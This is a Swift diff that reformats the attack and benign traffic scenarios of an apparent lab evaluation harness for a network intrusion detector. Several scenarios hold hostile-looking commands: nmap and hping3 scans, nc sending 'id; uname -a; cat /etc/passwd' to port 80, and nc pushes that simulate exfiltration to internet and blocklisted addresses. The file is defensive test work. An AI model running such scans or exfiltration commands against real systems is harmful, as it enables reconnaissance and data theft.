@@ -48,8 +48,10 @@ public struct EvalScenario: Sendable {
     public let measured: (response: Delivery.Response, target: Receiver.Target)?
     public let play: @Sendable (EvalPods) throws -> Void
 
-    public static func attack(_ name: String, _ expected: String, tools: [String], response: Delivery.Response,
-                              target: Receiver.Target, _ play: @escaping @Sendable (EvalPods) throws -> Void) -> EvalScenario {
+    public static func attack(
+        _ name: String, _ expected: String, tools: [String], response: Delivery.Response,
+        target: Receiver.Target, _ play: @escaping @Sendable (EvalPods) throws -> Void
+    ) -> EvalScenario {
         EvalScenario(name: name, expected: expected, tools: tools, measured: (response, target), play: play)
     }
 
@@ -67,8 +69,10 @@ extension EvalScenario {
     /// talking: the block (in force a few ms after the first) has something
     /// to stop. nc closes its side once its input ends.
     static func sendToPort80(_ pods: EvalPods, _ printfFormat: String) throws {
-        try pods.lab.inPod(pods.attacker, ["sh", "-c", "(printf '\(printfFormat)'; sleep 1; printf '\(printfFormat)') | nc -q 1 -w 3 \(Lab.internetAddress) 80"],
-                           check: false)
+        try pods.lab.inPod(
+            pods.attacker,
+            ["sh", "-c", "(printf '\(printfFormat)'; sleep 1; printf '\(printfFormat)') | nc -q 1 -w 3 \(Lab.internetAddress) 80"],
+            check: false)
     }
 
     /// Fetches `url` with curl from the attacker (a URL glob such as
@@ -76,8 +80,10 @@ extension EvalScenario {
     /// reply) and counts the replies.
     static func fetch(_ pods: EvalPods, _ url: String, _ options: [String] = []) throws {
         // The bodies go to /dev/null, the status codes to stderr.
-        let result = try pods.lab.inPod(pods.attacker, ["sh", "-c", "exec curl -s -m 3 -w '%{stderr}%{http_code}\\n' \"$@\" > /dev/null", "curl"]
-                                        + options + [url], check: false)
+        let result = try pods.lab.inPod(
+            pods.attacker,
+            ["sh", "-c", "exec curl -s -m 3 -w '%{stderr}%{http_code}\\n' \"$@\" > /dev/null", "curl"]
+                + options + [url], check: false)
         pods.exchanges.add(result.error.split(separator: "\n").count { $0 != "000" })
     }
 
@@ -85,7 +91,7 @@ extension EvalScenario {
     static func scanWhileFlooding(_ pods: EvalPods) throws {
         let flood = pods.attackerFloods ? nil : try EvalServices.startFlood(pods)
         defer { flood?.terminate() }
-        usleep(1_000_000)   // the flood is at full rate when the scan starts
+        usleep(1_000_000)  // the flood is at full rate when the scan starts
         try nmap(pods, ["-sS", "-p", "1-1000", pods.victim.ipv4])
     }
 
@@ -103,8 +109,10 @@ extension EvalScenario {
         attack("nmap SYN scan, slower timing (-T2)", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
             try nmap($0, ["-sS", "-T2", "-p", "1-40", $0.victim.ipv4])
         },
-        attack("nmap connect sweep, horizontal (/24, port 80)", "port_scan", tools: ["nmap"], response: .quarantine,
-               target: .node(network: "198.19.1.0/24")) {
+        attack(
+            "nmap connect sweep, horizontal (/24, port 80)", "port_scan", tools: ["nmap"], response: .quarantine,
+            target: .node(network: "198.19.1.0/24")
+        ) {
             try nmap($0, ["-sT", "-T5", "-p", "80", "198.19.1.0/24"])
         },
         attack("nmap UDP scan", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
@@ -122,36 +130,51 @@ extension EvalScenario {
         attack("nmap ACK scan", "port_scan", tools: ["nmap"], response: .quarantine, target: .victim) {
             try nmap($0, ["-sA", "-p", "1-1000", $0.victim.ipv4])
         },
-        attack("nmap SYN scan while the pod floods new UDP flows (5,000/s)", "port_scan", tools: ["nmap", "python3"],
-               response: .quarantine, target: .victim) {
+        attack(
+            "nmap SYN scan while the pod floods new UDP flows (5,000/s)", "port_scan", tools: ["nmap", "python3"],
+            response: .quarantine, target: .victim
+        ) {
             try scanWhileFlooding($0)
         },
         attack("hping3 SYN sweep of 150 ports", "port_scan", tools: ["hping3"], response: .quarantine, target: .victim) { pods in
             // -n: no reverse lookup, which would hang on a pod without DNS.
-            try pods.lab.inPod(pods.attacker, Shell.withSignalsUnblocked(
-                ["timeout", "-s", "KILL", "5", "hping3", "-n", "-S", "-p", "++1", "-c", "150", "-i", "u3000", pods.victim.ipv4]), check: false)
+            try pods.lab.inPod(
+                pods.attacker,
+                Shell.withSignalsUnblocked(
+                    ["timeout", "-s", "KILL", "5", "hping3", "-n", "-S", "-p", "++1", "-c", "150", "-i", "u3000", pods.victim.ipv4]),
+                check: false)
         },
         attack("SSH banner to port 80", "protocol_mismatch", tools: ["nc"], response: .block, target: .internet(Lab.internetAddress)) {
             try sendToPort80($0, "SSH-2.0-OpenSSH_9.2\\r\\n")
         },
-        attack("TLS ClientHello to port 80", "protocol_mismatch", tools: ["nc"], response: .block,
-               target: .internet(Lab.internetAddress)) {
+        attack(
+            "TLS ClientHello to port 80", "protocol_mismatch", tools: ["nc"], response: .block,
+            target: .internet(Lab.internetAddress)
+        ) {
             try sendToPort80($0, "\\026\\003\\001\\000\\245\\001\\000\\000\\241\\003\\003\\125\\125\\125\\125\\125\\125\\125\\125")
         },
-        attack("shell commands to port 80", "protocol_mismatch", tools: ["nc"], response: .block,
-               target: .internet(Lab.internetAddress)) {
+        attack(
+            "shell commands to port 80", "protocol_mismatch", tools: ["nc"], response: .block,
+            target: .internet(Lab.internetAddress)
+        ) {
             try sendToPort80($0, "id; uname -a; cat /etc/passwd\\n")
         },
-        attack("bulk push to the internet after a quiet warm-up", "exfiltration", tools: ["nc"], response: .block,
-               target: .internet(Lab.internetAddress)) { pods in
+        attack(
+            "bulk push to the internet after a quiet warm-up", "exfiltration", tools: ["nc"], response: .block,
+            target: .internet(Lab.internetAddress)
+        ) { pods in
             for _ in 0..<10 {
-                try pods.lab.inPod(pods.attacker, ["sh", "-c", "head -c 2000 /dev/zero | nc -q 0 -w 1 \(Lab.internetAddress) 9000"], check: false)
+                try pods.lab.inPod(
+                    pods.attacker, ["sh", "-c", "head -c 2000 /dev/zero | nc -q 0 -w 1 \(Lab.internetAddress) 9000"], check: false)
                 usleep(500_000)
             }
-            try pods.lab.inPod(pods.attacker, ["sh", "-c", "head -c 200000000 /dev/zero | nc -q 0 -w 5 \(Lab.internetAddress) 9000"], check: false)
+            try pods.lab.inPod(
+                pods.attacker, ["sh", "-c", "head -c 200000000 /dev/zero | nc -q 0 -w 5 \(Lab.internetAddress) 9000"], check: false)
         },
-        attack("connection to a blocklisted address", "blocklist_hit", tools: ["nc"], response: .blockedFromStart,
-               target: .internet(EvalPods.blockedAddress)) { pods in
+        attack(
+            "connection to a blocklisted address", "blocklist_hit", tools: ["nc"], response: .blockedFromStart,
+            target: .internet(EvalPods.blockedAddress)
+        ) { pods in
             try pods.lab.inPod(pods.attacker, ["sh", "-c", "echo secret | nc -q 1 -w 2 \(EvalPods.blockedAddress) 8088"], check: false)
         },
         benign("HTTP/1.1 requests on port 80, 150 connections (headers and body written apart)", tools: ["curl"]) { pods in
@@ -162,8 +185,9 @@ extension EvalScenario {
         },
         benign("DNS-like UDP queries", tools: ["nc"]) { pods in
             for _ in 0..<5 {
-                try pods.lab.inPod(pods.attacker, ["sh", "-c", "printf '\\022\\064\\001\\000\\000\\001' | nc -u -q 0 -w 1 \(pods.web.ipv4) 53"],
-                                   check: false)
+                try pods.lab.inPod(
+                    pods.attacker, ["sh", "-c", "printf '\\022\\064\\001\\000\\000\\001' | nc -u -q 0 -w 1 \(pods.web.ipv4) 53"],
+                    check: false)
             }
         },
         benign("steady iperf3 bulk flow", tools: ["iperf3"]) { pods in
@@ -179,6 +203,6 @@ extension EvalScenario {
                 try pods.lab.inPod(pods.attacker, ["nc", "-z", "-w", "1", pods.web.ipv4, "8081"], check: false)
                 usleep(200_000)
             }
-        },
+        }
     ]
 }
